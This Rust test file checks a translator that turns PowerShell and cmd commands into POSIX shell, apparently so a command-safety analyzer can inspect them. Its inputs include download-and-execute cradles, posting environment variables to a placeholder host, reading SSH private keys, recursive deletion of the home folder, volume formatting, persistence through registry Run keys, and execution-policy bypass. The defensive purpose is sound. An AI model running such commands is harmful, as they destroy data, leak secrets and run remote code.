//! The PowerShell front end: what it reads, and the POSIX script it writes.

use super::{cmd_variables, command_texts, read::read};
use crate::shell::parse::Budget;

/// [`super::to_posix`] with a whole budget.
fn to_posix(code: &str) -> Option<String> {
    super::to_posix(code, &Budget::default())
}

/// [`super::invocation_to_posix`] with a whole budget.
fn invocation_to_posix(program: &str, args: &[&str]) -> Option<String> {
    super::invocation_to_posix(program, args, &Budget::default())
}

/// The POSIX script of `code`, trimmed (`<none>` when it cannot be read).
fn posix(code: &str) -> String {
    to_posix(code)
        .unwrap_or_else(|| "<none>".to_owned())
        .trim_end()
        .to_owned()
}

#[test]
fn removals() {
    assert_eq!(
        posix("Remove-Item -Recurse -Force ~"),
        "rm -r -f -- \"$HOME\""
    );
    assert_eq!(posix(r"rm -r -fo C:\Users\u"), "rm -r -f -- C:/Users/u");
    assert_eq!(posix(r"rd /s /q build"), "rm -r -f -- build");
    assert_eq!(posix("Remove-Item -Path:a,b -Recurse:$false"), "rm -- a b");
    assert_eq!(posix("REMOVE-ITEM -LITERALPATH 'a b'"), "rm -- 'a b'");
    // An unknown parameter (`-rf`) is no switch: PowerShell refuses the call.
    assert_eq!(posix("rm -rf x"), "rm -- x");
}

#[test]
fn variables() {
    assert_eq!(
        posix(r"Get-Content $env:USERPROFILE\.ssh\id_rsa"),
        "cat -- \"$HOME\"/.ssh/id_rsa"
    );
    assert_eq!(
        posix(r"gc $env:APPDATA\x; gc ${env:LOCALAPPDATA}\y; gc $env:TEMP\z"),
        "cat -- \"$HOME\"/AppData/Roaming/x\ncat -- \"$HOME\"/AppData/Local/y\ncat -- \"$HOME\"/AppData/Local/Temp/z"
    );
    assert_eq!(
        posix("gc \"$HOME\\a $name\""),
        "cat -- \"$HOME\"'/a '\"$name\""
    );
    assert_eq!(
        posix("Add-Content $PROFILE x"),
        "printf '%s\\n' x >> \"$HOME\"/Documents/PowerShell/Microsoft.PowerShell_profile.ps1"
    );
    assert_eq!(posix("$env:RUST_LOG = 'debug'"), "RUST_LOG=debug");
    assert_eq!(posix("$k = Get-Content ~/k"), "k=\"$(cat -- \"$HOME\"/k)\"");
}

#[test]
fn known_values_are_followed() {
    assert_eq!(
        posix("$p = \"$HOME\\.ssh\\id_rsa\"; Get-Content $p"),
        "p=\"$HOME\"/.ssh/id_rsa\ncat -- \"$HOME\"/.ssh/id_rsa"
    );
    assert_eq!(posix("$d='~'; ri -r $D"), "d=\"$HOME\"\nrm -r -- \"$HOME\"");
    assert_eq!(posix("$script:k = 'a'; gc $k"), "k=a\ncat -- a");
    // Hash tables splatted: switches, `:$false`, values.
    assert_eq!(
        posix("$a = @{Path='~'; Recurse=$true; Force=$false}; Remove-Item @a"),
        "a='@{}'\nrm -r -- \"$HOME\""
    );
    assert_eq!(
        posix("$a = @{\n  Path = 'x', 'y'\n}\ngc @a"),
        "a='@{}'\ncat -- x y"
    );
    // Values that may not be the assigned one are not followed.
    assert_eq!(
        posix("$p = 'a'; $p += 'b'; gc $p"),
        "p=a\np=b\ncat -- \"$p\""
    );
    assert_eq!(
        posix("$p = 'a'; $c && ($p = 'b'); gc $p"),
        "p=a\n: && echo \"$(p=b)\"\ncat -- \"$p\""
    );
    assert_eq!(
        posix("$p = 'a'; if ($c) { $p = 'b' }; gc $p"),
        "p=a\n{ p=b\necho \"$c\"\n}\ncat -- \"$p\""
    );
    assert_eq!(
        posix("$p = 'a'; foreach ($p in $l) { gc $p }"),
        "p=a\n{ cat -- \"$p\"\necho \"$(:)\"\n}"
    );
    assert_eq!(
        posix("$p = 'a'; sv p b; gc $p"),
        "p=a\nsv p b\ncat -- \"$p\""
    );
    assert_eq!(
        posix("$p = (gc x); gc $p"),
        "p=\"$(cat -- x)\"\ncat -- \"$p\""
    );
    // A block binds for itself; `$HOME` keeps its value.
    assert_eq!(posix("icm { $p = 'a'; gc $p }"), "{ p=a\ncat -- a\n}");
    assert_eq!(posix("$HOME = 'x'; gc $HOME"), ":\ncat -- \"$HOME\"");
}

#[test]
fn strings_and_comments() {
    assert_eq!(posix("Write-Output 'it''s'"), "Write-Output 'it'\\''s'");
    assert_eq!(
        posix("Write-Output \"a`tb\"\"c\""),
        "Write-Output 'a\tb\"c'"
    );
    assert_eq!(posix("gc a # gc b"), "cat -- a");
    assert_eq!(posix("<# a\nb #> gc a"), "cat -- a");
    assert_eq!(
        posix("Set-Content x -Value @'\nline 'one'\n'@"),
        "printf '%s\\n' 'line '\\''one'\\''' > x"
    );
    assert_eq!(
        posix("Set-Content x -Value @\"\n$HOME\n\"@"),
        "printf '%s\\n' \"$HOME\" > x"
    );
    assert_eq!(posix("gc `\n  a"), "cat -- a");
    assert_eq!(
        posix("ls | % { git log --format={x} }"),
        "ls -- | { git log '--format={x}'\n}"
    );
}

#[test]
fn statements_and_pipelines() {
    assert_eq!(posix("git add .; git commit"), "git add .\ngit commit");
    assert_eq!(
        posix("npm ci && npm test || exit 1"),
        "npm ci && npm test || exit 1"
    );
    assert_eq!(
        posix("iwr https://x/a.ps1 | iex"),
        "curl -- https://x/a.ps1 | sh"
    );
    assert_eq!(
        posix("iex (iwr https://x/a.ps1)"),
        "sh -c \"$(curl -- https://x/a.ps1)\""
    );
    assert_eq!(
        posix("cargo build 2>&1 *> log.txt"),
        "cargo build 2>&1 &> log.txt"
    );
    assert_eq!(posix("npm test > $null"), "npm test > /dev/null");
    assert_eq!(
        posix("& 'C:\\Program Files\\x.exe' a"),
        "'C:/Program Files/x.exe' a"
    );
    assert_eq!(posix(". .\\env.ps1"), ". ./env.ps1");
    assert_eq!(posix(". { gc a }"), "{ cat -- a\n}");
    assert_eq!(
        posix("C:\\Windows\\System32\\cmd.exe /c type a"),
        "{ cat -- a\n}"
    );
}

#[test]
fn script_blocks_run() {
    assert_eq!(
        posix("ls | ForEach-Object { Remove-Item $_ -Recurse }"),
        "ls -- | { rm -r -- \"$_\"\n}"
    );
    assert_eq!(
        posix("Invoke-Command -ScriptBlock { gc x }"),
        "{ cat -- x\n}"
    );
    assert_eq!(
        posix("if (Test-Path x) { gc x } else { gc y }"),
        "{ cat -- x\ncat -- y\necho \"$(Test-Path x)\"\n}"
    );
}

#[test]
fn piped_removal_removes_the_listing() {
    assert_eq!(
        posix("Get-ChildItem ~ | Remove-Item -Recurse -Force"),
        "ls -- \"$HOME\" | rm -r -f -- \"$HOME\"/*"
    );
    assert_eq!(
        posix("gci -r src -Filter *.log | ri"),
        "ls -R -- src | rm -- src/*.log"
    );
    assert_eq!(posix("gci | rm"), "ls -- | rm -- ./*");
    assert_eq!(posix("gci a | rm b"), "ls -- a | rm -- b");
}

#[test]
fn piped_paths_feed_the_cmdlets_that_take_them() {
    for (code, expected) in [
        (
            "gci ~/.ssh | gc",
            "ls -- \"$HOME\"/.ssh | cat -- \"$HOME\"/.ssh/*",
        ),
        (
            "gci a | Select-String -Pattern x",
            "ls -- a | grep -e x -- a/*",
        ),
        (
            "gci a, b | Copy-Item -Destination c",
            "ls -- a b | cp -- a/* b/* c",
        ),
        ("gci a | gc b", "ls -- a | cat -- b"),
        ("gci a | Measure-Object", "ls -- a | Measure-Object"),
    ] {
        assert_eq!(posix(code), expected, "{code}");
    }
}

#[test]
fn cmdlets() {
    assert_eq!(posix("Copy-Item a -Destination b -Recurse"), "cp -r -- a b");
    assert_eq!(posix("mv a b"), "mv -- a b");
    assert_eq!(
        posix(r"Set-Location ..\x; sl -Path ~"),
        "cd ../x\ncd \"$HOME\""
    );
    assert_eq!(
        posix("iwr https://x -Method Post -InFile a -OutFile b"),
        "curl -X POST -d @- -T a -o b -- https://x"
    );
    assert_eq!(posix("gci -r src"), "ls -R -- src");
    assert_eq!(posix("gci Env:"), "env");
    assert_eq!(posix("ri -LP a -ea 0"), "rm -- a");
    assert_eq!(
        posix("ni -ItemType SymbolicLink -Path l -Target t"),
        "ln -s -- t l"
    );
    assert_eq!(
        posix("iex (New-Object Net.WebClient).DownloadString('https://x')"),
        "sh -c \"$(New-Object Net.WebClient)\"\"$(curl -- https://x)\""
    );
    assert_eq!(
        posix("(New-Object Net.WebClient).DownloadFile('https://x', 'a')"),
        "echo \"$(New-Object Net.WebClient)\"\"$(curl -o a -- https://x)\""
    );
    assert_eq!(
        posix("Start-BitsTransfer https://x a"),
        "curl -o a -- https://x"
    );
    assert_eq!(posix("sls TODO *.rs"), "grep -e TODO -- *.rs");
    assert_eq!(
        posix("Set-ItemProperty -Path HKCU:/Software/x -Name a -Value b"),
        "Set-ItemProperty -Path \"$HOME\"/NTUSER.DAT/Software/x -Name a -Value b"
    );
    assert_eq!(
        posix("New-Item -ItemType Directory -Path a -Name b"),
        "mkdir -p -- a/b"
    );
    assert_eq!(
        posix("Start-Process pwsh -ArgumentList '-c gc x'"),
        "{ cat -- x\n}"
    );
    assert_eq!(
        posix("saps git -ArgumentList status, $branch"),
        "git status \"$ARGS\""
    );
    assert_eq!(posix("schtasks /create /tn x"), "crontab -");
    assert_eq!(posix("sc.exe create svc binPath= C:/x.exe"), "crontab -");
    assert_eq!(posix("iex \"gc $HOME/x\""), "{ cat -- \"$HOME\"/x\n}");
    assert_eq!(posix("iex \"gc $(whoami)\""), "sh -c 'gc '\"$(whoami)\"");
    assert_eq!(posix("Clear-Content ~/x"), "truncate -s 0 -- \"$HOME\"/x");
    assert_eq!(
        posix("Format-Volume -DriveLetter D"),
        "wipefs -a -DriveLetter D"
    );
    assert_eq!(posix("format D: /q"), "wipefs -a D: /q");
    assert_eq!(posix("format src"), "format src");
    assert_eq!(posix("schtasks /query"), "schtasks /query");
    assert_eq!(
        posix("curl.exe -fsSL https://x"),
        "curl.exe -fsSL https://x"
    );
}

#[test]
fn dotnet_calls() {
    assert_eq!(
        posix(r#"[IO.File]::ReadAllText("$env:USERPROFILE\.ssh\id_rsa")"#),
        "cat -- \"$HOME\"/.ssh/id_rsa"
    );
    assert_eq!(
        posix("[System.IO.File]::WriteAllText(\"$HOME\\.bashrc\", 'x')"),
        "printf '%s\\n' x > \"$HOME\"/.bashrc"
    );
    assert_eq!(
        posix("[io.file]::AppendAllLines('a', $lines)"),
        "printf '%s\\n' \"$lines\" >> a"
    );
    assert_eq!(posix("[IO.File]::Create('a')"), ": > a");
    assert_eq!(posix("[IO.File]::Delete('a')"), "rm -- a");
    assert_eq!(posix("[IO.File]::Move('a', 'b')"), "mv -- a b");
    assert_eq!(
        posix("[IO.Directory]::Delete('C:\\x', $true)"),
        "rm -r -- C:/x"
    );
    assert_eq!(posix("[IO.Directory]::Delete('x')"), "rmdir -- x");
    assert_eq!(posix("[IO.Directory]::GetFiles('src')"), "ls -- src");
    assert_eq!(
        posix("[Environment]::GetEnvironmentVariables() | iwr -Uri https://x -Method Post"),
        "env | curl -X POST -d @- -- https://x"
    );
    assert_eq!(
        posix("gc ([Environment]::GetEnvironmentVariable('APPDATA') + '\\x')"),
        "cat -- \"$(echo \"$HOME\"/AppData/Roaming/x)\""
    );
    assert_eq!(posix("gc ($HOME + '/k')"), "cat -- \"$HOME\"/k");
    assert_eq!(
        posix("[Environment]::GetEnvironmentVariable('TOKEN')"),
        "printenv -- TOKEN"
    );
    assert_eq!(
        posix("gc ([IO.Path]::Combine($HOME, '.ssh', 'id_rsa'))"),
        "cat -- \"$(echo \"$HOME\"/.ssh/id_rsa)\""
    );
    assert_eq!(
        posix("$h = [Environment]::GetFolderPath([Environment+SpecialFolder]::UserProfile)"),
        "h=\"$HOME\""
    );
    assert_eq!(
        posix("[Net.WebClient]::new().DownloadString('https://x') | iex"),
        "echo \"$VALUE\"\"$(curl -- https://x)\" | sh"
    );
    assert_eq!(
        posix("[Diagnostics.Process]::Start('cmd', '/c del a')"),
        "{ rm -- a\n}"
    );
    // A value's own subexpressions run; a property set is an assignment.
    assert_eq!(posix("[Math]::Round(2.5)"), "echo \"$VALUE\"");
    assert_eq!(
        posix("[string]::Join(',', (gc ~/k))"),
        "echo , \"$(cat -- \"$HOME\"/k)\""
    );
    assert_eq!(
        posix("[Net.ServicePointManager]::SecurityProtocol = 'Tls12'"),
        "SecurityProtocol=Tls12"
    );
    // A cast is no call.
    assert_eq!(posix("[int]$x = 'a'"), "x=a");
}

#[test]
fn items_registry_policy_elevation() {
    assert_eq!(
        posix("Rename-Item $PROFILE x.ps1"),
        "mv -- \"$HOME\"/Documents/PowerShell/Microsoft.PowerShell_profile.ps1 \"$HOME\"/Documents/PowerShell/x.ps1"
    );
    assert_eq!(posix("ren a.txt b.txt"), "mv -- a.txt ./b.txt");
    assert_eq!(posix("rni -Path $p -NewName b"), "mv -- \"$p\" b");
    assert_eq!(
        posix("Remove-Item -Recurse HKCU:\\Software\\x"),
        "rm -r -- \"$HOME\"/NTUSER.DAT/Software/x"
    );
    assert_eq!(
        posix("ri Registry::HKEY_LOCAL_MACHINE\\SOFTWARE\\x"),
        "rm -- C:/Windows/System32/config/SOFTWARE/x"
    );
    assert_eq!(posix("gc HKCUx:/a"), "cat -- HKCUx:/a");
    assert_eq!(
        posix("ni HKCU:/Software/Classes/x/shell/open/command -Value a"),
        "crontab -"
    );
    assert_eq!(
        posix("Remove-ItemProperty HKCU:/Software/Microsoft/Windows/CurrentVersion/Run x"),
        "crontab -"
    );
    assert_eq!(
        posix("clp -Path HKLM:/Software/Microsoft/Windows/CurrentVersion/RunOnce -Name x"),
        "crontab -"
    );
    assert_eq!(
        posix("reg delete HKCU/Software/Microsoft/Windows/CurrentVersion/Run /v x /f"),
        "crontab -"
    );
    assert_eq!(
        posix("Remove-ItemProperty -Path HKCU:/Software/MyApp -Name x"),
        "Remove-ItemProperty -Path \"$HOME\"/NTUSER.DAT/Software/MyApp -Name x"
    );
    assert_eq!(
        posix("Set-ExecutionPolicy Bypass -Scope CurrentUser"),
        "printf '%s\\n' Bypass > \"$HOME\"/Documents/PowerShell/powershell.config.json"
    );
    assert_eq!(
        posix("Set-ExecutionPolicy unrestricted"),
        "printf '%s\\n' unrestricted > 'C:/Program Files/PowerShell/7/powershell.config.json'"
    );
    assert_eq!(
        posix("Set-ExecutionPolicy RemoteSigned -Scope CurrentUser"),
        "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser"
    );
    assert_eq!(
        posix("Set-ExecutionPolicy Bypass -Scope Process"),
        "Set-ExecutionPolicy Bypass -Scope Process"
    );
    assert_eq!(posix("Start-Process pwsh -Verb RunAs"), "sudo pwsh");
    assert_eq!(
        posix("saps cmd -Verb runas -ArgumentList '/c del x'"),
        "sudo sh -c '{ rm -- x\n}'"
    );
}

#[test]
fn nested_powershell_and_cmd() {
    // `gc ~` as UTF-16LE base64.
    assert_eq!(posix("pwsh -enc ZwBjACAAfgA="), "{ cat -- \"$HOME\"\n}");
    assert_eq!(
        invocation_to_posix("pwsh", &["-NoProfile", "-c", "Get-Content", "x"]).as_deref(),
        Some("{ cat -- x\n}")
    );
    assert_eq!(invocation_to_posix("pwsh.exe", &["-File", "x.ps1"]), None);
    assert_eq!(
        invocation_to_posix("cmd.exe", &["//c", "del /q x"]).as_deref(),
        Some("{ rm -f -- x\n}")
    );
    assert_eq!(invocation_to_posix("cmd", &["/d"]), None);
    assert_eq!(posix("cmd /c del /s /q x"), "{ rm -r -f -- x\n}");
    assert_eq!(
        cmd_variables("a %USERPROFILE%\\b 100%"),
        "a ${env:USERPROFILE}\\b 100%"
    );
}

#[test]
fn unreadable_code_is_none() {
    // A static member of a type (or a member) the front end does not know is not read.
    assert!(to_posix("[Reflection.Assembly]::Load($b)").is_none());
    assert!(to_posix("[IO.File]::Open('x', 'Create')").is_none());
    // A method of a variable is read as a value.
    assert_eq!(posix("$s.Trim()"), "echo \"$s\".Trim\"$()\"");
    assert!(to_posix("gc 'unterminated").is_none());
    assert!(to_posix("gc (a").is_none());
    assert!(to_posix("gc a }").is_none());
    assert!(to_posix("gc < x").is_none());
    let deep = format!("{}x{}", "(".repeat(100), ")".repeat(100));
    assert!(read(&deep).is_none());
    assert!(to_posix(&"a".repeat(100_000)).is_none());
    // A cast is skipped.
    assert!(to_posix("[int]$x = 1").is_some());
}

#[test]
fn command_texts_are_as_written() {
    assert_eq!(
        command_texts("git add .;  ls | % { Remove-Item $_ } # x").unwrap_or_default(),
        ["git add .", "ls", "% { Remove-Item $_ }", "Remove-Item $_"]
    );
    assert_eq!(
        command_texts("gc (Get-Item C:\\x)").unwrap_or_default(),
        ["gc (Get-Item C:\\x)", "Get-Item C:\\x"]
    );
}

proptest::proptest! {
    /// Any text is read or refused without a panic, in bounded time.
    #[test]
    fn never_panics(code in "[-a-zA-Z0-9 $@'\"`(){}|;&<>#,.:=~\\\\/*\n]{0,64}") {
        if let Some(posix) = to_posix(&code) {
            let _ = crate::shell::analyze(&posix, &crate::shell::ShellLimits::default());
        }
        let _ = command_texts(&code);
    }
}
